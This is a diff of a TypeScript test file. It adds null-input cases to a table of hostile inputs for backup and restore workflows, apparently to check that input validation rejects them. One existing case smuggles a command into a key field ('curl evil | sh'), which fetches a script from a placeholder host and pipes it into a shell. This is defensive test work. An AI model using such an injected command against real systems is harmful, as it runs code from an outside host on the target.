@@ -30,6 +30,10 @@ const CASES: { workflow: string; input: unknown; field: RegExp }[] = [
   { workflow: 'importBackup', input: { cluster: 'prod', key: 'x"; curl evil | sh' }, field: /key: / },
   { workflow: 'importBackup', input: { cluster: 'prod', key: 'k'.repeat(200_000) }, field: /key: / },
   { workflow: 'importBackup', input: { cluster: 'prod', key: 'a/b', staged: 'yes' }, field: /staged: / },
+  // No object at all (the start form's input left as `null`): every workflow, before its labels or its first step.
+  ...['backupCluster', 'checkCluster', 'checkClusterHealth', 'recoverCluster', 'respondToAlert', 'drillRestore', 'importBackup'].map(
+    (workflow) => ({ workflow, input: null, field: /input: expected an object/ }),
+  ),
 ];
 
 describe('hostile workflow inputs started through the client (as the UI start form does)', () => {
